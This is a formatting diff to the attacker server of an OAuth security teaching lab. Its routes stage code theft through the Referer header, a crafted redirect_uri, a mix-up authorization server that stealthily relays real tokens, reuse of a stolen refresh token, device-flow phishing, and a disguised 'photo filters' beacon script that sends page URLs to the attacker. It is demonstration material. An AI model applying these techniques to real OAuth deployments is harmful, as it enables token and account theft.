@@ -11,7 +11,18 @@
 import { join } from 'node:path';
 import express, { type Express, type NextFunction, type Request, type Response } from 'express';
 import { securityHeaders } from '@oauth-demo/web';
-import { callbackWithMallorysCode, craftedRedirectUri, passOnToRealServer, pollDeviceFlow, redeemAtRealServer, replayAtDrive, redeemStolenCode, startDeviceFlow, useLeakedAddress, useStolenRefreshToken } from './attacks.js';
+import {
+  callbackWithMallorysCode,
+  craftedRedirectUri,
+  passOnToRealServer,
+  pollDeviceFlow,
+  redeemAtRealServer,
+  replayAtDrive,
+  redeemStolenCode,
+  startDeviceFlow,
+  useLeakedAddress,
+  useStolenRefreshToken,
+} from './attacks.js';
 import { CraftedRequests } from './flows.js';
 import type { AttackerConfig } from './config.js';
 import { LootBox, RUN_ID } from './loot.js';
@@ -43,7 +54,11 @@ export function createApp(config: AttackerConfig): AttackerApp {
   app.disable('x-powered-by');
   app.set('view engine', 'ejs');
   app.set('views', VIEWS_DIR);
-  app.locals.config = { printer: config.printer.publicUrl, auth: config.auth.publicUrl, attacker: config.attacker.publicUrl };
+  app.locals.config = {
+    printer: config.printer.publicUrl,
+    auth: config.auth.publicUrl,
+    attacker: config.attacker.publicUrl,
+  };
   app.use(securityHeaders);
   app.use('/assets', express.static(ASSETS_DIR, { maxAge: '1h', index: false }));
 
@@ -105,9 +120,18 @@ export function createApp(config: AttackerConfig): AttackerApp {
     }
     if (run && code) {
       const result = await redeemStolenCode(config, code);
-      loot.add(run, { scenario: 'pkce', ...result, details: [`Referer: ${referer!.replace(/code=[^&]+/, 'code=…')}`, ...result.details] });
+      loot.add(run, {
+        scenario: 'pkce',
+        ...result,
+        details: [`Referer: ${referer!.replace(/code=[^&]+/, 'code=…')}`, ...result.details],
+      });
     } else if (run) {
-      loot.add(run, { scenario: 'pkce', success: false, summary: 'Her badge was loaded, but no code came with it.', details: referer ? [`Referer: ${referer}`] : ['No Referer header.'] });
+      loot.add(run, {
+        scenario: 'pkce',
+        success: false,
+        summary: 'Her badge was loaded, but no code came with it.',
+        details: referer ? [`Referer: ${referer}`] : ['No Referer header.'],
+      });
     }
     res.send(BADGE);
   });
@@ -123,7 +147,9 @@ export function createApp(config: AttackerConfig): AttackerApp {
     }
     const redirectUri = craftedRedirectUri(config, run);
     const { code_challenge, state } = crafted.create(run, redirectUri);
-    const url = new URL(`${config.auth.publicUrl}${req.query.endpoint === 'lab' ? '/lab/loose-redirect/authorize' : '/authorize'}`);
+    const url = new URL(
+      `${config.auth.publicUrl}${req.query.endpoint === 'lab' ? '/lab/loose-redirect/authorize' : '/authorize'}`,
+    );
     url.search = new URLSearchParams({
       response_type: 'code',
       client_id: config.labPublicClientId,
@@ -133,7 +159,12 @@ export function createApp(config: AttackerConfig): AttackerApp {
       code_challenge,
       code_challenge_method: 'S256',
     }).toString();
-    loot.add(run, { scenario: 'redirect', success: false, summary: 'Mallory showed you her “sign in with Photo Printer” link.', details: [`redirect_uri: ${redirectUri}`] });
+    loot.add(run, {
+      scenario: 'redirect',
+      success: false,
+      summary: 'Mallory showed you her “sign in with Photo Printer” link.',
+      details: [`redirect_uri: ${redirectUri}`],
+    });
     res.setHeader('Cache-Control', 'no-store');
     res.render('redirect', { title: 'Unlock your free filters', link: url.href, redirectUri });
   });
@@ -147,8 +178,15 @@ export function createApp(config: AttackerConfig): AttackerApp {
       res.status(404).render('message', { title: 'Nothing here', text: 'Nothing to catch.' });
       return;
     }
-    const result = await redeemStolenCode(config, code, { redirect_uri: request.redirect_uri, code_verifier: request.code_verifier });
-    loot.add(run, { scenario: 'redirect', ...result, details: ['The code arrived at her site through the printer’s “continue to” redirect.', ...result.details] });
+    const result = await redeemStolenCode(config, code, {
+      redirect_uri: request.redirect_uri,
+      code_verifier: request.code_verifier,
+    });
+    loot.add(run, {
+      scenario: 'redirect',
+      ...result,
+      details: ['The code arrived at her site through the printer’s “continue to” redirect.', ...result.details],
+    });
     res.setHeader('Cache-Control', 'no-store');
     res.render('caught', { title: 'Your filters are ready', back: `${config.printer.publicUrl}/lab/redirect` });
   });
@@ -158,7 +196,13 @@ export function createApp(config: AttackerConfig): AttackerApp {
   // receives what the printer sends it.
   app.get('/evil-as/authorize', (req, res) => {
     const run = runOf(req.query.run);
-    if (run) loot.add(run, { scenario: 'mixup', success: false, summary: 'Evil AS received the printer’s request and sent your browser on to the real auth server with it.', details: [] });
+    if (run)
+      loot.add(run, {
+        scenario: 'mixup',
+        success: false,
+        summary: 'Evil AS received the printer’s request and sent your browser on to the real auth server with it.',
+        details: [],
+      });
     res.redirect(303, passOnToRealServer(config, req.query));
   });
   app.post('/evil-as/token', express.urlencoded({ extended: false, limit: '10kb' }), async (req, res) => {
@@ -174,7 +218,12 @@ export function createApp(config: AttackerConfig): AttackerApp {
       redirect_uri: body.redirect_uri,
       ...(typeof body.code_verifier === 'string' ? { code_verifier: body.code_verifier } : {}),
     });
-    if (run) loot.add(run, { scenario: 'mixup', ...answer.redemption, details: ['The printer sent her the code and its code_verifier.', ...answer.redemption.details] });
+    if (run)
+      loot.add(run, {
+        scenario: 'mixup',
+        ...answer.redemption,
+        details: ['The printer sent her the code and its code_verifier.', ...answer.redemption.details],
+      });
     // Stealth: the printer gets the real tokens back, so the victim notices nothing.
     res.status(answer.status).json(answer.body);
   });
@@ -193,7 +242,11 @@ export function createApp(config: AttackerConfig): AttackerApp {
     const { redemption, next } = await useStolenRefreshToken(config, body.refresh_token, endpoint);
     stolen.set(run, { refreshToken: next, endpoint });
     while (stolen.size > 500) stolen.delete(stolen.keys().next().value!);
-    loot.add(run, { scenario: 'refresh', ...redemption, details: ['First use of the stolen refresh token.', ...redemption.details] });
+    loot.add(run, {
+      scenario: 'refresh',
+      ...redemption,
+      details: ['First use of the stolen refresh token.', ...redemption.details],
+    });
     res.json(redemption);
   });
   app.post('/stolen/refresh-again', form, async (req, res) => {
@@ -205,7 +258,11 @@ export function createApp(config: AttackerConfig): AttackerApp {
     }
     const { redemption, next } = await useStolenRefreshToken(config, held.refreshToken, held.endpoint);
     stolen.set(run, { ...held, refreshToken: next });
-    loot.add(run, { scenario: 'refresh', ...redemption, details: ['Later, after your printer refreshed too.', ...redemption.details] });
+    loot.add(run, {
+      scenario: 'refresh',
+      ...redemption,
+      details: ['Later, after your printer refreshed too.', ...redemption.details],
+    });
     res.json(redemption);
   });
 
@@ -220,7 +277,9 @@ export function createApp(config: AttackerConfig): AttackerApp {
       return;
     }
     const collect = JSON.stringify(`${config.attacker.publicUrl}/collect/${run}?u=`);
-    res.send(`/* Free photo filters widget */\n(function () {\n  var beacon = new Image();\n  beacon.src = ${collect} + encodeURIComponent(location.href);\n})();\n`);
+    res.send(
+      `/* Free photo filters widget */\n(function () {\n  var beacon = new Image();\n  beacon.src = ${collect} + encodeURIComponent(location.href);\n})();\n`,
+    );
   });
   app.get('/collect/:run', async (req, res) => {
     const run = runOf(req.params.run);
@@ -242,17 +301,33 @@ export function createApp(config: AttackerConfig): AttackerApp {
       return;
     }
     const flow = await startDeviceFlow(config);
-    loot.add(run, { scenario: 'device', success: false, pending: true, summary: `Her kiosk started a device flow and her page sent you the code ${flow.user_code}.`, details: [] });
+    loot.add(run, {
+      scenario: 'device',
+      success: false,
+      pending: true,
+      summary: `Her kiosk started a device flow and her page sent you the code ${flow.user_code}.`,
+      details: [],
+    });
     const deadline = Date.now() + flow.expires_in * 1000;
     let interval = flow.interval;
     const poll = () => {
       const timer = setTimeout(async () => {
         polls.delete(timer);
-        const result = await pollDeviceFlow(config, flow.device_code).catch((e: unknown) => ({ success: false, summary: `Her kiosk could not poll: ${String(e)}`, details: [] }));
+        const result = await pollDeviceFlow(config, flow.device_code).catch((e: unknown) => ({
+          success: false,
+          summary: `Her kiosk could not poll: ${String(e)}`,
+          details: [],
+        }));
         if (result === 'pending' || result === 'slow_down') {
           if (result === 'slow_down') interval += 5; // RFC 8628 §3.5
           if (Date.now() < deadline) poll();
-          else loot.add(run, { scenario: 'device', success: false, summary: 'The code expired before anyone approved it.', details: [] });
+          else
+            loot.add(run, {
+              scenario: 'device',
+              success: false,
+              summary: 'The code expired before anyone approved it.',
+              details: [],
+            });
           return;
         }
         loot.add(run, { scenario: 'device', ...result });
@@ -276,7 +351,12 @@ export function createApp(config: AttackerConfig): AttackerApp {
       return;
     }
     const result = await replayAtDrive(config, match[1]!, req.query.drive === 'lab' ? 'lab' : 'real');
-    if (run) loot.add(run, { scenario: 'audience', ...result, details: ['Her API received a token made for it, from the printer, as it should.', ...result.details] });
+    if (run)
+      loot.add(run, {
+        scenario: 'audience',
+        ...result,
+        details: ['Her API received a token made for it, from the printer, as it should.', ...result.details],
+      });
     res.json({ filters: ['vintage', 'neon', 'dreamy'] });
   });
 
